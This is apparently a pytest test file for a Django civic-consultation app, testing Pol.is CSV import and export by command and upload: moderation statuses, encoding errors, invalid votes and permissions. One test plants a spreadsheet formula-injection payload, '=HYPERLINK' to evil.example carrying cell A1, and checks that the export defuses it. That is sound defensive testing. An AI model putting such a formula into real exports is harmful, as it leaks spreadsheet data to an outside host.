"""Pol.is exports in and out: a small synthetic folder, by upload and by command."""

from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from compassion import bridging
from compassion.cli import main
from compassion.commonground import analysis
from compassion.commonground.models import Conversation, StatementStatus, Vote
from compassion.core.models import AuditEntry


def write_small_export(folder: Path) -> int:
    """Two camps of 15 voters split on six statements and both like #0; plus a moderated-out
    statement, an unmoderated one nobody saw, one everybody passed, and a participant who
    changed their mind (only the later vote counts). Returns the number of votes that count."""
    rng = random.Random(3)
    statements = [
        bridging.Statement(0, "Libraries should open on Sundays.", moderated=1, created=1000),
        *(bridging.Statement(n, f"Divisive idea {n}", moderated=1) for n in range(1, 7)),
        bridging.Statement(7, "You are all idiots", moderated=-1, created=4000),
        bridging.Statement(8, "Nobody saw this one yet", moderated=0, created=5000),
        bridging.Statement(9, "Café in the library, with “smart” quotes.", moderated=0),
    ]
    votes = []
    t = 10_000.0
    for voter in range(30):
        camp = voter % 2
        for n in range(8):
            liked = n == 0 or n % 2 == camp
            t += 1
            votes.append(
                bridging.Vote(voter, n, 1 if rng.random() < (0.9 if liked else 0.1) else -1, t)
            )
        votes.append(bridging.Vote(voter, 9, 0, t + 1))
    votes.append(bridging.Vote(0, 0, -1, 1.0))  # an older vote: replaced by the later one
    bridging.write_polis_export(folder, statements, votes)
    return 30 * 9


def test_the_command_imports_a_folder(tmp_path: Path, cast: Any) -> None:
    write_small_export(tmp_path)
    result = CliRunner().invoke(
        main,
        [
            "commonground-import",
            str(tmp_path),
            "--office",
            "alice",
            "--title",
            "Library and buses",
            "--question",
            "What should change?",
        ],
    )
    assert result.exit_code == 0, result.output
    assert "10 statements, 30 participants, 270 votes" in result.output
    conversation = Conversation.objects.get(title="Library and buses")
    assert conversation.office == cast.office
    statuses = dict(conversation.statements.values_list("number", "status"))
    assert statuses == {
        0: StatementStatus.ACCEPTED,
        1: StatementStatus.ACCEPTED,
        2: StatementStatus.ACCEPTED,
        3: StatementStatus.ACCEPTED,
        4: StatementStatus.ACCEPTED,
        5: StatementStatus.ACCEPTED,
        6: StatementStatus.ACCEPTED,
        7: StatementStatus.REJECTED,
        8: StatementStatus.PENDING,
        9: StatementStatus.ACCEPTED,
    }
    first_voter = conversation.participants.get(external_id="0")
    assert Vote.objects.get(participant=first_voter, statement__number=0).created_at.second == 10
    assert "Computational Democracy Project" in conversation.source
    assert conversation.status() == "closed"  # a finished conversation takes no new votes
    results = analysis.results_for(conversation)
    assert len(results.groups) == 2
    assert results.bridging[0].statement.number == 0


def test_the_command_explains_a_wrong_folder_or_office(tmp_path: Path, cast: Any) -> None:
    runner = CliRunner()
    args = ["--title", "x", "--question", "y"]
    missing = runner.invoke(
        main, ["commonground-import", str(tmp_path / "nope"), "--office", "alice", *args]
    )
    assert missing.exit_code == 1 and "There is no folder" in missing.output
    write_small_export(tmp_path)
    wrong = runner.invoke(main, ["commonground-import", str(tmp_path), "--office", "zed", *args])
    assert "There is no office 'zed'" in wrong.output
    assert Conversation.objects.count() == 0


def uploads(folder: Path) -> dict[str, SimpleUploadedFile]:
    return {
        field: SimpleUploadedFile(name, (folder / name).read_bytes(), "text/csv")
        for field, name in (("comments", "comments.csv"), ("votes", "votes.csv"))
    }


def test_staff_import_an_export_by_upload(tmp_path: Path, client: Client, cast: Any) -> None:
    write_small_export(tmp_path)
    client.force_login(cast.caseworker)
    response = client.post(
        "/common-ground/import/",
        {"title": "Library and buses", "question": "What should change?", **uploads(tmp_path)},
    )
    conversation = Conversation.objects.get()
    assert response["Location"] == f"/common-ground/{conversation.pk}/"
    assert conversation.votes().count() == 270
    assert AuditEntry.objects.filter(
        object_type="conversation", summary__contains="Pol.is"
    ).exists()
    page = client.get(response["Location"])
    assert "Libraries should open on Sundays." in page.content.decode()


@pytest.mark.parametrize(
    ("comments", "problem"),
    [
        (b"id,text\n1,hello\n", "no comment-id column"),
        ("comment-id,comment-body\n1,caf\xe9\n".encode("latin-1"), "not UTF-8"),
        (b"comment-id,comment-body\nnot-a-number,hi\n", None),
    ],
)
def test_a_bad_upload_is_explained_and_nothing_is_half_written(
    tmp_path: Path, client: Client, cast: Any, comments: bytes, problem: str | None
) -> None:
    write_small_export(tmp_path)
    files = uploads(tmp_path)
    files["comments"] = SimpleUploadedFile("comments.csv", comments, "text/csv")
    client.force_login(cast.caseworker)
    response = client.post("/common-ground/import/", {"title": "Broken", "question": "?", **files})
    if problem is None:  # a text id is kept: the statements still import
        assert response.status_code == 302
        return
    assert response.status_code == 200
    assert problem in " ".join(response.context["form"].non_field_errors())
    assert Conversation.objects.count() == 0


def test_an_export_saved_by_a_spreadsheet_imports_as_written(
    tmp_path: Path, client: Client, cast: Any
) -> None:
    """Excel's "CSV UTF-8" starts the file with a byte-order mark; a statement can carry a
    NUL (which PostgreSQL cannot store) or an id too big for a database number."""
    write_small_export(tmp_path)
    (tmp_path / "comments.csv").write_bytes(
        b"\xef\xbb\xbfcomment-id,comment-body,moderated\r\n"
        b"0,Libraries should open on Sundays.,1\r\n"
        b"99999999999999999999,Buses every ten\x00 minutes,1\r\n"
    )
    client.force_login(cast.caseworker)
    response = client.post(
        "/common-ground/import/", {"title": "Library", "question": "?", **uploads(tmp_path)}
    )
    assert response.status_code == 302
    texts = set(Conversation.objects.get().statements.values_list("text", flat=True))
    assert "Libraries should open on Sundays." in texts
    assert "Buses every ten minutes" in texts


def test_the_export_cannot_run_a_statement_as_a_formula_and_reads_back_as_written(
    client: Client, cast: Any, voted: Conversation, tmp_path: Path
) -> None:
    """Anyone may write a statement; the staff who open comments.csv in a spreadsheet must
    not run it. Imported again, the statement reads as it was written."""
    written = '=HYPERLINK("http://evil.example/?"&A1,"Buses every ten minutes")'
    voted.statements.filter(number=1).update(text=written)
    client.force_login(cast.caseworker)
    response = client.get(f"/common-ground/{voted.pk}/polis-export/")
    zipfile.ZipFile(io.BytesIO(response.content)).extractall(tmp_path)
    comments = (tmp_path / "comments.csv").read_text()
    assert "'=HYPERLINK" in comments and ",=HYPERLINK" not in comments
    files = {
        "comments": SimpleUploadedFile("comments.csv", comments.encode(), "text/csv"),
        "votes": SimpleUploadedFile("votes.csv", (tmp_path / "votes.csv").read_bytes()),
    }
    client.post("/common-ground/import/", {"title": "Again", "question": "?", **files})
    again = Conversation.objects.get(title="Again")
    assert again.statements.get(number=1).text == written


def test_an_upload_without_votes_is_refused(tmp_path: Path, client: Client, cast: Any) -> None:
    write_small_export(tmp_path)
    client.force_login(cast.caseworker)
    files = uploads(tmp_path)
    del files["votes"]
    response = client.post("/common-ground/import/", {"title": "x", "question": "y", **files})
    assert "without votes there is nothing to show" in response.content.decode()


def test_an_export_whose_votes_are_none_of_agree_pass_or_disagree_is_refused(
    tmp_path: Path, client: Client, cast: Any
) -> None:
    """Pol.is votes are -1, 0 or 1; a file of other numbers made a conversation with no votes."""
    statements = [bridging.Statement(0, "Libraries should open on Sundays.", moderated=1)]
    votes = [bridging.Vote(voter, 0, 5, 1000.0 + voter) for voter in range(10)]
    bridging.write_polis_export(tmp_path, statements, votes)
    client.force_login(cast.caseworker)
    response = client.post(
        "/common-ground/import/", {"title": "x", "question": "y", **uploads(tmp_path)}
    )
    assert "none of its votes is -1, 0 or 1" in response.content.decode()
    assert not Conversation.objects.exists()


def test_an_export_with_some_votes_that_are_not_votes_says_how_many_were_left_out(
    tmp_path: Path, client: Client, cast: Any
) -> None:
    statements = [bridging.Statement(0, "Libraries should open on Sundays.", moderated=1)]
    votes = [bridging.Vote(voter, 0, 1 if voter < 8 else 5, 1000.0 + voter) for voter in range(11)]
    bridging.write_polis_export(tmp_path, statements, votes)
    client.force_login(cast.caseworker)
    response = client.post(
        "/common-ground/import/",
        {"title": "x", "question": "y", **uploads(tmp_path)},
        follow=True,
    )
    page = response.content.decode()
    assert "3 votes were left out: a vote is -1, 0 or 1" in page
    assert Conversation.objects.get().votes().count() == 8
    args = ["--office", "alice", "--title", "Again", "--question", "?"]
    result = CliRunner().invoke(main, ["commonground-import", str(tmp_path), *args])
    assert result.exit_code == 0, result.output
    assert "8 votes." in result.output and "3 votes were left out" in result.output


def test_a_volunteer_cannot_import(client: Client, cast: Any) -> None:
    client.force_login(cast.volunteer)
    assert client.get("/common-ground/import/").status_code == 403


def test_the_export_download_reads_back_as_the_same_votes(
    client: Client, cast: Any, voted: Conversation, tmp_path: Path
) -> None:
    client.force_login(cast.caseworker)
    response = client.get(f"/common-ground/{voted.pk}/polis-export/")
    assert response["Content-Type"] == "application/zip"
    zipfile.ZipFile(io.BytesIO(response.content)).extractall(tmp_path)
    back = bridging.read_polis_export(tmp_path)
    assert len(back.votes) == voted.votes().count()
    assert {s.id for s in back.statements} == set(range(1, 9))
    grouped = {p: g for p, g in back.polis_groups.items() if g is not None}
    assert len(set(grouped.values())) == 2
